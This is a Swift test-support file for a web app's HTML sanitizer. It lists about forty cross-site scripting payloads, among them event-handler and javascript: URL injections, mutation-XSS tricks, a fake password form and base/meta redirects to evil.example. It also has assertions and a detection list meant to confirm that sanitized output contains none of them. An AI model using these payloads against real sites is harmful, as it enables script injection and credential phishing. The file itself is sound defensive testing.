import AsyncHTTPClient
import Foundation
import Support
import Testing

/// Ways in which markup was made to run elsewhere: one of each kind.
enum Attacks {
    static let scripts = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<a href='javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='&#x6A;avascript&#58;alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='https://x.example/\"onmouseover=alert(1)'>x</a>", "<a href=https://x.example onclick=alert(1)>x</a>",
        "<a style='position:fixed;inset:0' href=https://x.example>x</a>", "<style>*{display:none}</style>",
        "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>",
        "<form action='https://evil.example'><input type=password name=p><button>Log in</button></form>",
        "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>", "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>", "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "\"><script>alert(1)</script>",
        "' onmouseover='alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "<b\u{C}onclick=alert(1)>x</b>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "{{constructor.constructor('alert(1)')()}}",
    ]

    /// HTML for people to read: markup that is not on the list is no markup any more.
    static func expectHarmless(_ html: String, _ location: SourceLocation = #_sourceLocation) {
        let tags = html.matches(of: /<[^>]*>?/).map { String($0.output).lowercased() }
        for tag in tags {
            let name = tag.dropFirst().drop { $0 == "/" }.prefix { $0.isLetter || $0.isNumber }
            #expect(allowed.contains(String(name)), "\(tag)", sourceLocation: location)
            let isActive = tag.contains(/\son[a-z]+\s*=/) || tag.contains(/\sstyle\s*=/)
            // What looks like an attribute may stand inside of the quotes of an address.
            let bare = tag.replacing(/"[^"]*"/, with: "\"\"")
            #expect(
                !isActive || (!bare.contains(/\son[a-z]+\s*=/) && !bare.contains(/\sstyle\s*=/)), "\(tag)",
                sourceLocation: location)
            for match in tag.matches(of: /(href|src)\s*=\s*"([^"]*)"/) {
                let scheme = match.output.2.prefix { $0 != ":" }
                let known = [
                    "http", "https", "mailto", "dat", "dweb", "ipfs", "ipns", "ssb", "gopher", "xmpp", "magnet",
                    "gemini",
                ]
                #expect(known.contains(String(scheme)), "\(tag)", sourceLocation: location)
            }
        }
    }

    private static let allowed: Set<String> = [
        "p", "br", "span", "a", "del", "s", "pre", "blockquote", "code", "b", "strong", "u", "i", "em", "ul", "ol",
        "li",
        "ruby", "rt", "rp", "h1", "h2", "h3", "h4", "h5", "h6", "img",
    ]

    /// A page of ours has scripts and forms of its own, but no tag that one of the attacks would have made.
    static func expectHarmlessPage(_ body: [UInt8], _ location: SourceLocation = #_sourceLocation) {
        let traces = [
            "alert(", "evil.example", "<iframe", "<object", "<embed", "<math", "javascript:", "<base",
            "http-equiv=refresh",
            "type=password",
        ]
        var bad: Set<String> = []
        for tag in tags(of: String(decoding: body, as: UTF8.self).lowercased()) {
            // What stands in the quotes of a title or an alternative text is text.
            let bare = tag.replacing(/\s(title|alt|aria-label|content|value|data-[a-z]+)="[^"<>]*"/, with: "")
                // So is what stands in the address of a link to somewhere on the web.
                .replacing(/\shref="https?:[^"<>]*"/, with: "")
            if traces.contains(where: bare.contains) { bad.insert(String(bare.prefix(300))) }
        }
        if !bad.isEmpty { Issue.record("\(bad)", sourceLocation: location) }
    }

    /// Everything between `<` and `>`, scripts with what is in them.
    private static func tags(of page: String) -> [String] {
        let scripts = page.matches(of: /<script[^>]*>([^<]*)/).map { String($0.output.1) }
        return page.matches(of: /<[^>]*>/).map { String($0.output) } + scripts
    }
}

extension TestServer {
    func header(_ name: String, of path: String) async throws -> String {
        var request = HTTPClientRequest(url: baseURL + path)
        request.headers.add(name: "Accept", value: "text/html")
        let response = try await HTTPClient.shared.execute(request, timeout: .seconds(20))
        _ = try await response.body.collect(upTo: 10_000_000)
        return response.headers.first(name: name) ?? ""
    }
}
